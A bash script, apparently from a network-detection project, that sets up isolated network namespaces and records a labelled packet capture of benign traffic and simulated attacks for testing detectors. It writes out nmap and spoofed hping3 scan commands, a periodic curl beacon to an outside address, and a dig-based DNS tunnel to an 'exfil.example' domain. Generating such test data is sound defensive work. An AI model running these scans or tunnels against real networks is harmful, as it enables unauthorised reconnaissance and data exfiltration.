#!/usr/bin/env bash
# Records test-corpus/real-tools/capture.pcap: real tools between two network namespaces made here,
# captured by tcpdump on the client side, with truth.json naming each source address's role.
# Attacks: an nmap SYN scan of one host's ports, an nmap connect sweep of one port over 30 hosts,
# an hping3 SYN sweep of a Redis port over 60 addresses (half of them silent), a curl beacon every
# 2 s to an outside address, and a dig DNS tunnel (base32 labels). Benign: curl page fetches, dig
# lookups of ordinary names, an iperf3 transfer. Needs root, iproute2, tcpdump, nmap, hping3, curl,
# dig, iperf3, python3 and node (for the DNS responder, dns-packet from node_modules).
#
#   sudo scripts/record-tool-captures.sh [out-dir]
set -euo pipefail
cd "$(dirname "$0")/.."
out=${1:-test-corpus/real-tools}
mkdir -p "$out"
NS_C=omega-rt-c-$$
NS_S=omega-rt-s-$$
work=$(mktemp -d)
pids=()
cleanup() {
  local rc=$?
  [ "$rc" -ne 0 ] && [ -s "$work/dns.log" ] && sed "s/^/dns responder: /" "$work/dns.log" >&2
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  ip netns del "$NS_C" 2>/dev/null || true
  ip netns del "$NS_S" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
for tool in tcpdump nmap hping3 curl dig iperf3; do
  command -v "$tool" >/dev/null || { echo "record-tool-captures: $tool is missing (apt-get install -y $tool)" >&2; exit 1; }
done
node=${NODE:-$(command -v node)}
C() { ip netns exec "$NS_C" "$@"; }
S() { ip netns exec "$NS_S" "$@"; }

ip netns add "$NS_C"
ip netns add "$NS_S"
ip link add rtc0 type veth peer name rts0
ip link set rtc0 netns "$NS_C"
ip link set rts0 netns "$NS_S"
C ip link set lo up
S ip link set lo up
C ip link set rtc0 up
S ip link set rts0 up
# Client addresses, one per role (the detectors key replayed flows by source address).
for a in 11 10 12 13 14 20 21 22; do C ip addr add "10.199.0.$a/24" dev rtc0; done
C ip route add 10.199.1.0/24 via 10.199.0.2 src 10.199.0.11
C ip route add 203.0.113.0/24 via 10.199.0.2 src 10.199.0.11
S ip addr add 10.199.0.2/24 dev rts0
# Thirty internal hosts and three outside services live on the server side; 10.199.1.31-60 are silent.
for h in $(seq 1 30); do S ip addr add "10.199.1.$h/32" dev lo; done
for h in 7 53 80; do S ip addr add "203.0.113.$h/32" dev lo; done
S ip route add 10.199.0.0/24 dev rts0 2>/dev/null || true

mkdir -p "$work/www" && echo "ok" >"$work/www/index.html" && echo "tasks: none" >"$work/www/beacon"
S /usr/bin/python3 -m http.server 8080 --bind 0.0.0.0 --directory "$work/www" >/dev/null 2>&1 &
pids+=($!)
S "$node" -e '
const dgram = require("node:dgram");
const dns = require(require.resolve("dns-packet", { paths: [process.argv[1]] }));
const s = dgram.createSocket("udp4");
s.on("message", (m, r) => {
  const q = dns.decode(m);
  const a = dns.encode({ type: "response", id: q.id, flags: dns.RECURSION_DESIRED | dns.RECURSION_AVAILABLE,
    questions: q.questions, answers: q.questions.map((x) => ({ type: "A", name: x.name, ttl: 60, data: "203.0.113.80" })) });
  s.send(a, r.port, r.address);
});
s.bind(53, "203.0.113.53", () => console.log("dns ready"));
' "$PWD/apps/sentinel" >"$work/dns.log" 2>&1 &
pids+=($!)
S iperf3 -s -B 10.199.1.5 -1 >/dev/null 2>&1 &
pids+=($!)
# Wait for the servers (slow to start on a loaded machine), before the capture begins.
for _ in $(seq 1 60); do
  C dig -b 10.199.0.11 @203.0.113.53 ready.example A +tries=1 +time=1 >/dev/null 2>&1 \
    && C curl -s -o /dev/null --interface 10.199.0.11 http://10.199.1.1:8080/ && break
  sleep 0.5
done

C tcpdump -i rtc0 -s 256 -U -w "$work/capture.pcap" 'ip' >/dev/null 2>&1 &
tcpdump_pid=$!
sleep 1
start=$(date +%s%N)

# Benign: page fetches at irregular times, ordinary lookups, one bandwidth test.
for i in 1 2 3 4 5; do
  C curl -s -o /dev/null --interface 10.199.0.20 http://10.199.1.1:8080/
  sleep "0.$((RANDOM % 9 + 1))"
done
for i in 1 2 3; do C curl -s -o /dev/null --interface 10.199.0.20 http://203.0.113.80:8080/index.html; done
for name in www.example.com api.example.com example.org mail.example.net cdn.example.com docs.example.org; do
  C dig -b 10.199.0.21 @203.0.113.53 "$name" A +tries=1 +time=1 >/dev/null
done
C iperf3 -c 10.199.1.5 -B 10.199.0.22 -b 1M -t 2 >/dev/null

# Attacks.
C nmap -sS -Pn -n -p 1-100 -S 10.199.0.10 -e rtc0 --max-rate 300 10.199.1.1 >/dev/null
C nmap -sT -Pn -n -p 22 10.199.1.1-30 >/dev/null
for h in $(seq 1 60); do
  C hping3 -q -S -p 6379 -c 1 -a 10.199.0.14 "10.199.1.$h" >/dev/null 2>&1 || true
done
for i in $(seq 1 12); do
  C curl -s -o /dev/null --interface 10.199.0.12 http://203.0.113.7:8080/beacon
  sleep 2
done
for i in $(seq 1 14); do
  label=$(head -c 25 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')
  C dig -b 10.199.0.13 @203.0.113.53 "$label.t.exfil.example" TXT +tries=1 +time=1 >/dev/null
done
sleep 2
end=$(date +%s%N)
kill "$tcpdump_pid"
wait "$tcpdump_pid" 2>/dev/null || true
cp "$work/capture.pcap" "$out/capture.pcap"
cat >"$out/truth.json" <<JSON
{
  "recordedAt": "$(date -u +%Y-%m-%dT%H:%M:%SZ)",
  "startNs": "$start",
  "endNs": "$end",
  "tools": {
    "nmap": "$(nmap --version | head -1)",
    "hping3": "$(hping3 --version 2>&1 | head -1)",
    "curl": "$(curl --version | head -1 | cut -d' ' -f1-2)",
    "dig": "$(dig -v 2>&1 | head -1)",
    "iperf3": "$(iperf3 --version | head -1)",
    "tcpdump": "$(tcpdump --version 2>&1 | head -1)"
  },
  "attackers": [
    { "entityKey": "ip:10.199.0.10", "kind": "scan", "what": "nmap -sS -p 1-100 of one host (all closed: RST)" },
    { "entityKey": "ip:10.199.0.11", "kind": "scan", "what": "nmap -sT -p 22 over 30 hosts (all closed: RST)" },
    { "entityKey": "ip:10.199.0.14", "kind": "scan", "what": "hping3 -S -p 6379 over 60 addresses (30 RST, 30 silent)" },
    { "entityKey": "ip:10.199.0.12", "kind": "beacon", "what": "curl to 203.0.113.7:8080 every 2 s, 12 times" },
    { "entityKey": "ip:10.199.0.13", "kind": "dns-tunnel", "what": "dig TXT of 14 base32 labels under t.exfil.example" }
  ],
  "benign": [
    { "entityKey": "ip:10.199.0.20", "what": "curl page fetches (5 internal, 3 outside)" },
    { "entityKey": "ip:10.199.0.21", "what": "dig A of 6 ordinary names" },
    { "entityKey": "ip:10.199.0.22", "what": "iperf3 -b 1M -t 2 to 10.199.1.5" }
  ]
}
JSON
ls -la "$out"
